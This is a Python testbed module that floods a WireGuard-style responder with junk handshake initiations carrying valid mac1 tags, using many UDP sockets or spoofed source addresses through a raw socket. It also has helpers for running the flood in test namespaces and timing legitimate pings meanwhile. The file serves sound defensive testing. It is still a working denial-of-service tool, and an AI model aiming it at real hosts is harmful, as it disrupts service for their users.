"""A handshake flood, as an attacker who knows the responder's public key sends it.

Every datagram is a 148-byte initiation whose mac1 is valid for the responder (so each
costs it a BLAKE2s check, and without a defence a DH) and whose body is random (so no
handshake ever completes) with mac2 zero (the attacker never reads cookie replies).
Two kinds:

- ``ports``: from ``--ports`` UDP sockets of one source address (the issue's attack);
- ``spoof``: from random source addresses of ``--spoof CIDR`` through a raw socket
  (IP_HDRINCL; the kernel fills in the IP checksum, the UDP checksum is left 0).

Run inside the attacker's namespace: ``python -m uspan.testbed.flood HOST PORT PUBKEY_B64
--seconds S [--rate R] [--ports N | --spoof CIDR]``. It prints ``ready`` once its
datagrams are built, floods, then prints ``sent N`` and exits. Only for namespaces a
test or benchmark created. ``Attack`` runs it from a test or benchmark, and ``Pinger``
times a legitimate peer's pings through the tunnel meanwhile.
"""

from __future__ import annotations

import argparse
import base64
import ipaddress
import os
import random
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

from uspan.testbed.lab import Lab
from uspan.testbed.namespace import Namespace
from uspan.testbed.process import NetnsError
from uspan.wg import cookie, crypto
from uspan.wg.constants import INITIATION_SIZE, MAC_SIZE, MSG_INITIATION

ATTACKER, RESPONDER = "198.18.0.1", "198.18.0.2"  # the two ends of ``link``
# Spoofed sources: a range routed to the attacker's namespace, not on the link, so replies
# to them cost the responder one neighbour entry (the attacker's), not one each: the
# kernel's neighbour table is shared by every namespace (gc_thresh3, 1024 by default), and
# on-link spoofing would overflow it for everyone on the machine.
SPOOF_RANGE = "198.19.0.0/16"
POOL = 4096  # distinct datagrams, cycled
SPOOF_POOL = 65536  # with spoofing: distinct (source, port) pairs, cycled
_CHUNK = 256  # datagrams sent between clock checks


def junk_initiation(mac1_key: bytes) -> bytes:
    """A random initiation whose mac1 is valid for the holder of ``mac1_key``."""
    body = struct.pack("<I", MSG_INITIATION) + os.urandom(INITIATION_SIZE - 4 - 2 * MAC_SIZE)
    return body + crypto.mac(mac1_key, body) + bytes(MAC_SIZE)


def _udp_ip_packet(source: str, destination: str, sport: int, dport: int,
                   payload: bytes) -> bytes:
    """IPv4 + UDP header and payload; the kernel fills in IP id, length and checksum."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(source),
                         socket.inet_aton(destination))
    return header + udp


Send = Callable[[bytes], object]


def _senders(args: argparse.Namespace, payloads: list[bytes]) -> list[tuple[Send, bytes]]:
    """(send function, datagram) pairs to cycle through."""
    dest = (args.host, args.port)
    if args.spoof:
        network = ipaddress.IPv4Network(args.spoof)
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        first, size = int(network.network_address) + 1, network.num_addresses - 2

        def send_raw(packet: bytes) -> int:
            return raw.sendto(packet, (args.host, 0))

        out: list[tuple[Send, bytes]] = []
        for payload in payloads:
            source = str(ipaddress.IPv4Address(first + random.randrange(size)))
            packet = _udp_ip_packet(source, args.host, random.randrange(1024, 65536),
                                    args.port, payload)
            out.append((send_raw, packet))
        return out
    sockets = []
    for _ in range(args.ports):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect(dest)
        sockets.append(sock)
    return [(sockets[i % len(sockets)].send, p) for i, p in enumerate(payloads)]


def flood(args: argparse.Namespace) -> int:
    key = cookie.mac1_key(base64.b64decode(args.public))
    payloads = [junk_initiation(key) for _ in range(SPOOF_POOL if args.spoof else POOL)]
    pairs = _senders(args, payloads)
    print("ready", flush=True)
    sent = 0
    start = time.monotonic()
    end = start + args.seconds
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if args.rate and sent > (now - start) * args.rate:
            time.sleep(min(0.001, end - now))
            continue
        offset = sent % len(pairs)
        chunk = pairs[offset:offset + _CHUNK]
        for send, datagram in chunk:
            try:  # noqa: SIM105 (per datagram, suppress() would cost more than the send)
                send(datagram)
            except OSError:  # ENOBUFS, ECONNREFUSED from an earlier ICMP: keep going
                pass
        sent += len(chunk)
    print(f"sent {sent}", flush=True)
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m uspan.testbed.flood")
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("public", help="the responder's public key, base64")
    parser.add_argument("--seconds", type=float, default=15.0)
    parser.add_argument("--rate", type=float, default=0.0,
                        help="datagrams/s (0: as fast as possible)")
    parser.add_argument("--ports", type=int, default=64, help="source sockets (64)")
    parser.add_argument("--spoof", metavar="CIDR", help="random IPv4 sources from CIDR instead")
    return flood(parser.parse_args(argv))


if __name__ == "__main__":
    sys.exit(main())


# --- driving it from a test or benchmark ---------------------------------------------------


def link(lab: Lab, attacker: Namespace, responder: Namespace) -> None:
    """A veth from ``attacker`` (ATTACKER/16) to ``responder`` (RESPONDER/16), which routes
    SPOOF_RANGE back through ``attacker`` (where replies to it are dropped: no forwarding)."""
    lab.veth(attacker, responder, [f"{ATTACKER}/16"], [f"{RESPONDER}/16"])
    responder.ip("route", "add", SPOOF_RANGE, "via", ATTACKER)


class Attack:
    """A flood running in ``ns`` (a namespace the caller's lab created and owns)."""

    def __init__(self, ns: Namespace, host: str, port: int, public: str, *, seconds: float,
                 rate: float = 0.0, ports: int = 64, spoof: str | None = None) -> None:
        how = ["--spoof", spoof] if spoof else ["--ports", str(ports)]
        if rate:
            how += ["--rate", str(rate)]
        root = str(Path(__file__).resolve().parents[2])
        env = {**os.environ, "PYTHONPATH": root + os.pathsep + os.environ.get("PYTHONPATH", "")}
        self.process = ns.spawn(sys.executable, "-m", "uspan.testbed.flood", host, str(port),
                                public, "--seconds", str(seconds), *how,
                                stdout=subprocess.PIPE, env=env)
        assert self.process.stdout is not None
        self._out = self.process.stdout
        if self._out.readline().strip() != b"ready":
            raise NetnsError(f"the flood did not start (exit {self.process.wait()})")
        self.started = time.monotonic()

    def wait(self) -> int:
        """Wait for the flood to end; how many datagrams it sent."""
        words = self._out.readline().split()
        if self.process.wait(10) != 0 or len(words) != 2:
            raise NetnsError(f"the flood failed: {words!r}")
        return int(words[1])


class Pinger:
    """``ping -i 0.2`` in ``ns``, recording when each reply came (monotonic seconds)."""

    def __init__(self, ns: Namespace, address: str) -> None:
        self.replies: list[float] = []
        self.process = ns.spawn("ping", "-n", "-i", "0.2", address, stdout=subprocess.PIPE)
        self.started = time.monotonic()
        threading.Thread(target=self._watch, daemon=True).start()

    def _watch(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            if b"bytes from" in line:
                self.replies.append(time.monotonic())

    def first_reply(self, after: float = float("-inf")) -> float | None:
        """Seconds from ``after`` (default: the start) to the first reply later than it."""
        start = max(after, self.started)
        later = [t for t in self.replies if t > start]
        return later[0] - start if later else None

    def wait_reply(self, after: float, timeout: float) -> float | None:
        """Wait until a reply later than ``after`` came, at most ``timeout`` s past it."""
        while time.monotonic() < after + timeout:
            if (got := self.first_reply(after)) is not None:
                return got
            time.sleep(0.05)
        return self.first_reply(after)

    def stop(self) -> None:
        self.process.terminate()
